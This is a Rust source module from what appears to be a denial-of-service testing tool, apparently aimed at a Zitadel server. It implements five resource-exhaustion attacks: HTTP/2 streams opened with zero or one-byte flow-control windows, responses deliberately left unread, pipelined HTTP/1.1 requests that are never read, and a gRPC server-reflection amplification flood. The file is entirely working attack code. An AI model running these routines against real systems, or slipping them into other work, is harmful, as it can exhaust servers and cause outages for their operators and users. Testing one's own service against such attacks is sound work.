//! Clients that request much and read slowly or not at all.

use std::io;

use crate::attack::attacker::Attack;
use crate::attack::frames::{Block, END_STREAM, Frames, INITIAL_WINDOW_SIZE, message};
use crate::attack::wire::{Pace, Wire};

const OPENAPI: &str = "/openapi.json";
pub const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/// The number of concurrent calls that a connection allows.
const STREAMS: u32 = 100;

pub const ATTACKS: [Attack; 5] = [
    Attack::new("answers without a window", (6_000, "requests"), 60, |wire, pace| Box::pin(no_window(wire, pace))),
    Attack::new("answers a byte at a time", (6_000, "bytes"), 20, |wire, pace| Box::pin(tiny_window(wire, pace))),
    Attack::new("unread answers", (6_000, "requests"), 60, |wire, pace| Box::pin(unread(wire, pace))),
    Attack::new("HTTP/1.1 unread answers", (6_000, "requests"), 60, |wire, pace| Box::pin(http1_unread(wire, pace))),
    Attack::new("unread reflection", (20_000, "questions"), 60, |wire, pace| Box::pin(reflection(wire, pace))),
];

async fn no_window(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    wire.shake_hands(&[(INITIAL_WINDOW_SIZE, 0)]).await?;
    wire.drain();
    ask(&mut wire, pace).await?;
    wire.closed().await;
    Err(io::ErrorKind::ConnectionReset.into())
}

async fn tiny_window(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    wire.shake_hands(&[(INITIAL_WINDOW_SIZE, 1)]).await?;
    wire.drain();
    let streams: Vec<u32> = (0..STREAMS).map(|_| wire.stream()).collect();
    let block = Block::new("GET", OPENAPI);
    for &stream in &streams {
        wire.send_frames(Frames::new().headers(stream, END_STREAM, &block)).await?;
    }
    loop {
        for &stream in &streams {
            wire.send_frames(Frames::new().window_update(stream, 1)).await?;
            pace.keep(1).await;
        }
    }
}

/// The windows are open, but the client does not read, so that the bytes stay in the server's socket.
async fn unread(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    wire.shake_hands(&[(INITIAL_WINDOW_SIZE, 1 << 30)]).await?;
    ask(&mut wire, pace).await?;
    std::future::pending().await
}

async fn ask(wire: &mut Wire, pace: &mut Pace) -> io::Result<()> {
    let block = Block::new("GET", OPENAPI);
    for _ in 0..STREAMS {
        let stream = wire.stream();
        wire.send_frames(Frames::new().headers(stream, END_STREAM, &block)).await?;
        pace.keep(1).await;
    }
    Ok(())
}

async fn http1_unread(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    loop {
        wire.send(b"GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n").await?;
        pace.keep(1).await;
    }
}

/// A question has 40 bytes, its answer hundreds of times as many. Each connection asks on a hundred streams.
async fn reflection(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    const SYMBOL: &str = "zitadel.feature.v2.FeatureService";
    const FILE_CONTAINING_SYMBOL: u8 = 0x22;
    wire.shake_hands(&[(INITIAL_WINDOW_SIZE, 0)]).await?;
    wire.drain();
    let question = [&[FILE_CONTAINING_SYMBOL, SYMBOL.len() as u8], SYMBOL.as_bytes()].concat();
    let question = message(false, question.len() as u32, &question);
    let streams: Vec<u32> = (0..STREAMS).map(|_| wire.stream()).collect();
    for &stream in &streams {
        wire.send_frames(Frames::new().headers(stream, 0, &Block::grpc(REFLECTION))).await?;
    }
    loop {
        for &stream in &streams {
            wire.send_frames(Frames::new().data(stream, 0, &question)).await?;
            pace.keep(1).await;
        }
    }
}
